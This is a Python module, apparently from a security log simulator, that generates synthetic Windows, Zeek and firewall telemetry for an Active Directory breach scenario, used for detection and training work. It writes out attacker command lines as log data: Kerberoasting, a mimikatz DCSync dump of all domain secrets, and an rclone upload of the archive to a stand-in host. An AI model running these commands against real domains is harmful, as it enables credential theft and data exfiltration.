"""An Active Directory compromise: Kerberoasting from a workstation, DCSync with a cracked service
account, and the domain's secrets uploaded to a remote server."""

from __future__ import annotations

import numpy as np

from breachscope.simulate import clock, episodes
from breachscope.simulate.config import SimConfig
from breachscope.simulate.kerberos import roast
from breachscope.simulate.network import Network
from breachscope.simulate.noise.windows import DOMAIN_GUID, DOMAIN_OBJECT, DS_REPLICATION, DS_REPLICATION_ALL
from breachscope.simulate.story import Story

UPLOAD_IP = "192.0.2.88"
UPLOAD_NAME = "files.example.org"


def build(story: Story, net: Network, cfg: SimConfig, rng: np.random.Generator) -> dict:
    ws = net.workstations[min(23, len(net.workstations) - 1)]
    user = net.owner_of[ws.name]
    dc = net.with_role("dc")[0]
    dom = net.domain
    accounts = {u.sam: u for u in net.users}
    t = episodes.at(cfg, 6, 14, 2, 11.0)
    first = t
    tag = "episode:ad-2020:kerberoasting"
    _proc(story, rng, t - 3 * clock.US, ws.name, "C:\\Users\\Public\\r.exe", "r.exe kerberoast /rc4opsec /nowrap",
          f"{dom}\\{user}", tag)
    roasted = roast(story, rng, t, ws, user, tag)
    t = episodes.at(cfg, 7, 10, 47, 30.0)
    tag = "episode:ad-2020:dcsync"
    dcsync = accounts[roasted[1]]  # the backup service account: it may replicate
    _proc(story, rng, t - 5 * clock.US, ws.name, "C:\\Users\\Public\\m.exe",
          f"m.exe \"lsadump::dcsync /domain:{net.fqdn} /all /csv\" exit", f"{dom}\\{user}", tag)
    story.win(t, dc.name, 4624, [
        ("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"), ("SubjectLogonId", "0x0"),
        ("TargetUserSid", dcsync.sid), ("TargetUserName", dcsync.sam), ("TargetDomainName", dom),
        ("TargetLogonId", "0x" + rng.bytes(3).hex()), ("LogonType", "3"), ("LogonProcessName", "Kerberos"),
        ("AuthenticationPackageName", "Kerberos"), ("WorkstationName", "-"),
        ("LogonGuid", "{" + rng.bytes(16).hex() + "}"), ("TransmittedServices", "-"), ("LmPackageName", "-"),
        ("KeyLength", "0"), ("ProcessId", "0x0"), ("ProcessName", "-"), ("IpAddress", ws.ip),
        ("IpPort", str(int(rng.integers(49152, 65536)))), ("ImpersonationLevel", "%%1833"),
        ("RestrictedAdminMode", "-"), ("TargetOutboundUserName", "-"), ("TargetOutboundDomainName", "-"),
        ("VirtualAccount", "%%1843"), ("TargetLinkedLogonId", "0x0"), ("ElevatedToken", "%%1842")], tag)
    for i, guid in enumerate((DS_REPLICATION, DS_REPLICATION_ALL)):
        story.win(t + (i + 1) * 200_000, dc.name, 4662, [
            ("SubjectUserSid", dcsync.sid), ("SubjectUserName", dcsync.sam), ("SubjectDomainName", dom),
            ("SubjectLogonId", "0x" + rng.bytes(3).hex()), ("ObjectServer", "DS"), ("ObjectType", f"%{DOMAIN_OBJECT}"),
            ("ObjectName", f"%{DOMAIN_GUID}"), ("OperationType", "Object Access"), ("HandleId", "0x0"),
            ("AccessList", "%%7688\r\n\t\t\t\t"), ("AccessMask", "0x100"),
            ("Properties", f"%%7688\r\n\t\t{guid}\r\n\t{DOMAIN_OBJECT}\r\n"), ("AdditionalInfo", "-"),
            ("AdditionalInfo2", "")], tag)
    sport = int(rng.integers(49152, 65536))
    uid = story.conn(t + 100_000, ws.ip, sport, dc.ip, 49667, "tcp", "dce_rpc", 14.2, 21_400, 8_900_000, tag=tag)
    for op in ("DRSBind", "DRSGetNCChanges", "DRSGetNCChanges", "DRSUnbind"):
        t += 400_000
        story.zeek("dce_rpc", t, {"uid": uid, "id.orig_h": ws.ip, "id.orig_p": str(sport), "id.resp_h": dc.ip,
                                  "id.resp_p": "49667", "rtt": "0.004210", "named_pipe": "49667",
                                  "endpoint": "drsuapi", "operation": op}, tag)
    t = episodes.at(cfg, 8, 9, 58, 2.0)
    tag = "episode:ad-2020:exfiltration"
    _proc(story, rng, t - 60 * clock.US, ws.name, "C:\\Users\\Public\\7za.exe",
          "7za.exe a -p C:\\Users\\Public\\d.7z C:\\Users\\Public\\dcsync.csv", f"{dom}\\{user}", tag)
    _proc(story, rng, t - 2 * clock.US, ws.name, "C:\\Users\\Public\\rclone.exe",
          "rclone.exe copy C:\\Users\\Public\\d.7z remote:inbox --no-check-certificate", f"{dom}\\{user}", tag)
    size = int(rng.integers(30_000_000, 60_000_000))
    uid = story.conn(t, ws.ip, sport + 1, UPLOAD_IP, 443, "tcp", "ssl", 88.0, size, 41_000, tag=tag)
    story.ssl(t + 30_000, uid, ws.ip, sport + 1, UPLOAD_IP, 443, UPLOAD_NAME, tag)
    cid = 210_000_001
    story.asa(t, "6-302013", f"Built outbound TCP connection {cid} for outside:{UPLOAD_IP}/443 ({UPLOAD_IP}/443) to "
              f"inside:{ws.ip}/{sport + 1} ({net.public_nat}/{sport + 1})", tag)
    story.asa(t + 88 * clock.US, "6-302014", f"Teardown TCP connection {cid} for outside:{UPLOAD_IP}/443 to inside:"
              f"{ws.ip}/{sport + 1} duration 0:01:28 bytes {size + 41_000} TCP FINs from inside", tag)
    story.flow(t, t + 88 * clock.US, ws.ip, UPLOAD_IP, sport + 1, 443, 6, size, size // 1400, tag)
    return {"workstation": {"name": ws.name, "ip": ws.ip}, "user": user, "domain_controller": dc.name,
            "kerberoasted_accounts": roasted, "dcsync_account": dcsync.sam,
            "upload": {"ip": UPLOAD_IP, "name": UPLOAD_NAME, "bytes": size}, "start": int(first)}


def _proc(story: Story, rng: np.random.Generator, t: int, host: str, image: str, cmd: str, user: str,
          tag: str) -> None:
    story.win(t, host, 1, [
        ("RuleName", "-"), ("UtcTime", clock.sysmon_utc(np.array([t]))[0].as_py()),
        ("ProcessGuid", "{" + rng.bytes(16).hex() + "}"), ("ProcessId", str(int(rng.integers(1000, 20000)))),
        ("Image", image), ("FileVersion", "-"), ("Description", "-"), ("Product", "-"), ("Company", "-"),
        ("OriginalFileName", "-"), ("CommandLine", cmd), ("CurrentDirectory", "C:\\Users\\Public\\"), ("User", user),
        ("LogonGuid", "{" + rng.bytes(16).hex() + "}"), ("LogonId", "0x" + rng.bytes(3).hex()),
        ("TerminalSessionId", "1"), ("IntegrityLevel", "Medium"), ("Hashes", "SHA256=" + rng.bytes(32).hex().upper()),
        ("ParentProcessGuid", "{" + rng.bytes(16).hex() + "}"), ("ParentProcessId", "6612"),
        ("ParentImage", "C:\\Windows\\System32\\cmd.exe"), ("ParentCommandLine", "cmd.exe"), ("ParentUser", user)],
        tag, sysmon=True)
